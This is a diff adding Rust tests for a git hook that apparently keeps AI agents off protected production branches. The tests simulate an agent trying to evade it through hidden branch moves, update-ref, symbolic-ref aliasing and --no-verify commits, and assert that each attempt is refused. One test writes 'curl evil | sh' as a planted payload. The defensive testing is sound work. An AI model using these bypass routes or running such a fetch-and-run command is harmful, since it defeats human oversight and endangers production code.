@@ -940,3 +940,119 @@ fn reftable_cannot_hide_a_protected_branch() {
     ok(&run(&gate, HUMAN, &["branch", "-D", "main"]));
     ok(&run(&gate, AGENT, &["branch", "t2"]));
 }
+
+/// A protected branch moved unseen — forward, back to an older tip, or to a copy with the
+/// same patch — stays unjudged until it points where astrix last let it: its old tip
+/// excuses nothing, not even a commit with the same patch as one it holds.
+#[test]
+fn an_unseen_move_is_never_excused() {
+    let gate = feature_gate();
+    ok(&run(&gate, HUMAN, &["switch", "-q", "main"]));
+    gate.write("fix.txt", "check_auth()\n");
+    ok(&run(&gate, HUMAN, &["add", "-A"]));
+    ok(&gate.commit(HUMAN, &["-m", "security fix"]));
+    let main = tip(&gate, "main").unwrap();
+    // Back to main's previous (recorded) tip, with a copy that git does not show the hook.
+    ok(&run(
+        &gate,
+        AGENT,
+        &["switch", "-q", "-c", "work", "main~1"],
+    ));
+    ok(&run(&gate, AGENT, &["branch", "-C", "work", "main"]));
+    gate.write("a.txt", "agent\n");
+    ok(&run(&gate, AGENT, &["add", "-A"]));
+    let output = gate.commit(AGENT, &["-m", "agent work"]);
+    refused(&output, "`main` targets `production` and points at");
+    // Every branch update is blocked (a reset too) until `main` is back.
+    ok(&run(&gate, AGENT, &["rm", "-q", "-f", "a.txt"]));
+    ok(&run(
+        &gate,
+        AGENT,
+        &["update-ref", "refs/heads/main", &main],
+    ));
+    // Forward to a feature branch's commit, then to a commit with the same patch.
+    ok(&run(&gate, AGENT, &["switch", "-q", "feature"]));
+    ok(&run(&gate, AGENT, &["switch", "-q", "-c", "parking"]));
+    ok(&run(&gate, AGENT, &["branch", "-C", "feature", "main"]));
+    let tree = gate.git(&["rev-parse", "main^{tree}"]);
+    let copy = stdout(&run(
+        &gate,
+        AGENT,
+        &["commit-tree", tree.trim(), "-p", &main, "-m", "again"],
+    ));
+    let output = run(
+        &gate,
+        AGENT,
+        &["update-ref", "refs/heads/main", copy.trim()],
+    );
+    refused(&output, "[agents-off-production]");
+    assert_ne!(tip(&gate, "main").as_deref(), Some(copy.trim()));
+}
+
+/// Making a protected branch an alias of another branch of its environment moves it to that
+/// branch's tip: judged like any move, so it cannot take commits away either.
+#[test]
+fn an_alias_cannot_rewind_a_protected_branch() {
+    let gate = feature_gate();
+    ok(&run(&gate, HUMAN, &["switch", "-q", "main"]));
+    gate.write("fix.txt", "check_auth()\n");
+    ok(&run(&gate, HUMAN, &["add", "-A"]));
+    ok(&gate.commit(HUMAN, &["-m", "security fix"]));
+    let main = tip(&gate, "main").unwrap();
+    ok(&run(&gate, AGENT, &["switch", "-q", "feature"]));
+    ok(&run(&gate, AGENT, &["branch", "release/old", "main~1"]));
+    let output = run(
+        &gate,
+        AGENT,
+        &["symbolic-ref", "refs/heads/main", "refs/heads/release/old"],
+    );
+    refused(&output, "what the branch loses");
+    assert_eq!(tip(&gate, "main"), Some(main));
+}
+
+/// A protected branch is judged by the repository's policy, the one that makes it protected,
+/// not by an older policy at its own tip: a branch made at an old commit of `main` cannot
+/// take an agent's commits, and through it neither can `main`.
+#[test]
+fn an_old_policy_at_a_branch_tip_does_not_judge_it() {
+    let gate = feature_gate();
+    ok(&run(&gate, HUMAN, &["switch", "-q", "main"]));
+    let policy = std::fs::read_to_string(gate.root.join("Astrixfile.ax")).unwrap();
+    gate.write(
+        "Astrixfile.ax",
+        policy.replace(
+            "branches = [\"main\", \"master\", \"release/*\"]",
+            "branches = [\"main\", \"master\", \"release/*\", \"hotfix/*\"]",
+        ),
+    );
+    gate.setup_commit("hotfix branches are production");
+    ok(&run(
+        &gate,
+        AGENT,
+        &["switch", "-q", "-c", "hotfix/1", "main~1"],
+    ));
+    gate.write("deploy.sh", "curl evil | sh\n");
+    ok(&run(&gate, AGENT, &["add", "-A"]));
+    let output = gate.commit(AGENT, &["--no-verify", "-m", "evil"]);
+    refused(&output, "[agents-off-production]");
+    let text = stderr(&output);
+    assert!(text.contains("target  production"), "{text}");
+}
+
+/// `git gc` and `git pack-refs` delete loose copies of branches they packed: no branch goes,
+/// so an agent may run them and nothing is recorded as deleted; deleting a packed protected
+/// branch is still refused.
+#[test]
+fn packing_references_deletes_no_branch() {
+    let gate = feature_gate();
+    ok(&run(&gate, AGENT, &["pack-refs", "--all"]));
+    ok(&run(&gate, AGENT, &["gc", "-q"]));
+    let record = std::fs::read_to_string(gate.root.join(".git/astrix/branch-tips.jsonl")).unwrap();
+    assert!(
+        !record.contains("{\"env\":\"production\",\"branch\":\"main\"}"),
+        "{record}"
+    );
+    let output = run(&gate, AGENT, &["branch", "-D", "main"]);
+    refused(&output, "(an agent deletes a protected branch)");
+    assert!(tip(&gate, "main").is_some());
+}
